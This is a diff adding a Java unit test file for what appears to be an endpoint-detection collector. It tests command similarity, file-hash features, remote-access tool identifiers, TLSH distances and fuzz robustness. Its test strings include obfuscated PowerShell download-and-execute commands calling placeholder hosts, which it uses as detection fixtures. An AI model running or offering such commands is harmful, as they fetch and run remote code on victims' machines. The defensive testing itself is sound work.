@@ -1,0 +1,150 @@
+package bzh.vigie.collector.detect.returns;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.util.List;
+import java.util.Map;
+import java.util.OptionalInt;
+import java.util.Random;
+import java.util.Set;
+import org.junit.jupiter.api.Test;
+
+/** What something is known again by, and what says nothing. */
+final class FeaturesTest {
+    private static Set<Feature> of(Map<String, String> fields) {
+        return Features.marked(fields, "a").values().keySet();
+    }
+
+    @Test
+    void commandsThatDoTheSameAreOne() {
+        CommandWords one = CommandWords.of(
+                "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')\"");
+        for (String same : List.of(
+                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile -WindowStyle Hidden -Command iex(new-object net.webclient).('Down'+'loadString').Invoke('x')",
+                "p^owershell -w hidden -nop \"i`ex (New-Object Net.WebClient).DownloadString('https://203.0.113.7:8443/q/r')\"")) {
+            assertTrue(one.likeness(CommandWords.of(same)) >= Marked.ALIKE, one + " " + CommandWords.of(same));
+        }
+        for (String other : List.of(
+                "powershell -NoProfile -ExecutionPolicy Bypass -File \\\\srv\\netlogon\\map.ps1",
+                "C:\\Program Files\\GLPI-Agent\\glpi-agent.exe --daemon",
+                "curl -fsS -m 10 https://ping.example.org")) {
+            assertTrue(one.likeness(CommandWords.of(other)) < 50, other);
+        }
+        String host = "C:\\Windows\\System32\\svchost.exe";
+        Map<String, String> service = Map.of(
+                "location", "windows.service", "target", host, "value", host + " -k netsvcs -p (auto, LocalSystem)");
+        assertTrue(Features.marked(service, "a").command().isEmpty());
+        assertFalse(of(service).contains(Feature.CONTENT));
+        assertFalse(CommandWords.of("0 4 * * * root /usr/bin/updatedb").tells());
+    }
+
+    @Test
+    void whatTheSystemHasIsNoFeature() {
+        String hash = "ab".repeat(32);
+        Map<String, String> shell = Map.of("Image", "/usr/bin/bash", "sha256", hash, "CommandLine", "bash");
+        assertEquals(Set.of(), of(shell));
+        Map<String, String> packaged = Map.of(
+                "Image", "/usr/sbin/sshd", "sha256", hash, "CommandLine", "sshd -D", "Package", "openssh-server");
+        assertEquals(Set.of(), of(packaged));
+        Map<String, String> copied = Map.of("Image", "/tmp/bash", "sha256", hash, "CommandLine", "bash");
+        assertTrue(of(copied).contains(Feature.FILE));
+        Map<String, String> swapped = Map.of(
+                "location",
+                "linux.file.system-program",
+                "target",
+                "/usr/bin/bash",
+                "sha256",
+                hash,
+                "shipped",
+                "modified");
+        assertTrue(of(swapped).contains(Feature.FILE));
+        Map<String, String> empty =
+                Map.of("Image", "/tmp/x", "sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
+        assertFalse(of(empty).contains(Feature.FILE));
+        Map<String, String> dotNet = Map.of(
+                "location",
+                "x",
+                "target",
+                "C:\\a\\b.exe",
+                "signature",
+                "unsigned",
+                "imphash",
+                "f34d5f2d4577ed6d9ceec516c1f5a744");
+        assertFalse(of(dotNet).contains(Feature.IMPORTS));
+    }
+
+    @Test
+    void hashesThatSysmonLogsAreHashesOfTheFile() {
+        Map<String, String> fields = Map.of(
+                "Image",
+                "C:\\x\\y.exe",
+                "Hashes",
+                "MD5=00112233445566778899AABBCCDDEEFF,SHA256=" + "AB".repeat(32) + ",IMPHASH=" + "CD".repeat(16));
+        Features features = Features.seen(fields, "a");
+        assertEquals(Set.of("ab".repeat(32)), features.values().get(Feature.FILE));
+        assertEquals(Set.of("cd".repeat(16)), features.values().get(Feature.IMPORTS));
+    }
+
+    @Test
+    void theNameOfAFileIsNobodysInstance() {
+        assertEquals(
+                Set.of(),
+                RemoteTokens.owners(Map.of(
+                        "name", "action1 Action1", "source", "HKLM\\SOFTWARE\\WOW6432Node\\Action1", "value", "x=1")));
+        assertEquals(
+                Set.of("2baf1f40105d", "mallory@ad", "123456789"),
+                RemoteTokens.owners(Map.of(
+                        "name",
+                        "anydesk mallory@ad 123456789",
+                        "source",
+                        "/etc/anydesk/system.conf",
+                        "value",
+                        "ad.anynet.alias=mallory@ad\nad.anynet.id=123456789\nad.anynet.pwd_hash digest=2baf1f40105d")));
+        assertEquals(
+                Set.of("mallory.example"),
+                RemoteTokens.addresses("curl http://10.0.0.1/a https://mallory.example:8443/x https://github.com/y"));
+    }
+
+    /** Digests made up but for their form; the distance of one from itself and the weights are those of the reference. */
+    @Test
+    void distancesOfTlshAreThoseOfTheReference() {
+        String one = "T1" + "0".repeat(70);
+        assertEquals(OptionalInt.of(0), Tlsh.distance(one, one));
+        assertEquals(OptionalInt.of(1), Tlsh.distance(one, "T110" + "0".repeat(68)));
+        assertEquals(OptionalInt.of(6), Tlsh.distance(one, "T1" + "0".repeat(69) + "3"));
+        assertEquals(OptionalInt.of(3), Tlsh.distance(one, "T1" + "0".repeat(69) + "6"));
+        assertEquals(OptionalInt.of(1), Tlsh.distance(one, "T10010" + "0".repeat(66)));
+        assertEquals(OptionalInt.of(24), Tlsh.distance(one, "T10020" + "0".repeat(66)));
+        assertEquals(OptionalInt.of(12), Tlsh.distance(one, "T1000002" + "0".repeat(64)));
+        assertEquals(OptionalInt.empty(), Tlsh.distance(one, "T1zz" + "0".repeat(68)));
+        assertEquals(OptionalInt.empty(), Tlsh.distance(one, ""));
+    }
+
+    @Test
+    void nothingThatAHostSendsMakesItThrowOrStand() {
+        Random random = new Random(20_261_126);
+        String letters = "abcXYZ019 \\/.:-_=+@\"'`^{}()[]|;,\n\u0000é\u202e";
+        for (int round = 0; round < 3_000; round++) {
+            StringBuilder text = new StringBuilder();
+            for (int i = random.nextInt(300); i > 0; i--) {
+                text.append(letters.charAt(random.nextInt(letters.length())));
+            }
+            String t = text.toString();
+            Features.seen(Map.of("location", "windows.remote.x", "name", t, "value", t, "target", t, "source", t), "a");
+            Features.marked(Map.of("Image", t, "CommandLine", t, "Hashes", t), "a");
+            Features.marked(
+                    Map.of("location", "windows.account.local", "name", t, "value", "RID 9999999999 " + t), "a");
+        }
+        for (String part : List.of("a", "\\a", "/", "A1", "-", "@a.", "aaaa.", "^", "' + '", "%a%", "1.2.3.4 ", "{")) {
+            String longest = part.repeat(200_000 / part.length());
+            Features.seen(Map.of("Image", longest, "CommandLine", longest), "a");
+            Features.marked(
+                    Map.of("location", "x.remote.y", "name", longest, "value", longest, "source", longest), "a");
+            Features.marked(
+                    Map.of("location", "x", "name", longest, "value", longest, "target", longest, "source", longest),
+                    "a");
+        }
+    }
+}
